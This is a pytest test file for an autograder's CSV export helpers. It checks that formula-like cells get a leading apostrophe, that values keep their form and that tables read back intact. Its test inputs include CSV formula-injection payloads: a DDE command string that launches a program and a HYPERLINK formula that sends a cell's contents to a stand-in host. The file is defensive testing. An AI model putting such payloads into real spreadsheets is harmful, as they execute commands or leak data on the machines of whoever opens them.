"""No cell is a formula, and every number is one."""

import csv
import io
from datetime import datetime

import pytest

from autograder.exports.cells import cell, table

HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org?"&A1, "open")',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_looks_like_a_formula_begins_with_an_apostrophe(text: str) -> None:
    """Whatever white space, quotes or invisible characters stand before it."""
    assert cell(text).startswith("'")


@pytest.mark.parametrize("text", ["Ada;=1+1", 'Ada"; =1+1', "Ada;\t@x"])
def test_a_cell_that_begins_within_ours_is_none_either(text: str) -> None:
    """Where a semicolon separates columns, what follows one begins a cell."""
    for part in cell(text).split(";"):
        assert not part.lstrip().startswith(("=", "@"))


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (-2.5, "-2.5"),
        (37.0, "37"),
        (1 / 3, "0.3333"),
        (1e-9, "0"),
        (1234567.5, "1234567.5"),
        (0, "0"),
        (True, "yes"),
        (False, "no"),
        (None, ""),
        ("-12", "-12"),
        ("+4.5", "+4.5"),
        ("-", "-"),
        ("O'Neil-Smith", "O'Neil-Smith"),
        ("ada+grades@example.org", "ada+grades@example.org"),
        ("Zoë Åström", "Zoë Åström"),
        ("a\tb\r\nc\x00", "a b  c"),
        (datetime(2026, 1, 2, 3, 4, 5), "2026-01-02 03:04:05"),
    ],
)
def test_everything_else_stays_what_it_is(value: float | str | bool | datetime | None, said: str) -> None:
    """Numbers have a decimal point and no exponent, names their letters and hyphens."""
    assert cell(value) == said


def test_a_table_is_read_back_as_it_was_written() -> None:
    """Commas, quotes and long texts stay in their cells; a row of another length is a mistake of ours."""
    rows = [("a,b", 'say "hi"', -1.5), ("x", "", None)]
    read = list(csv.reader(io.StringIO(table(("one", "two", "three"), rows))))
    assert read == [["one", "two", "three"], ["a,b", 'say "hi"', "-1.5"], ["x", "", ""]]
    with pytest.raises(ValueError, match="a row of 1 cells below 2 columns"):
        table(("one", "two"), [("a",)])
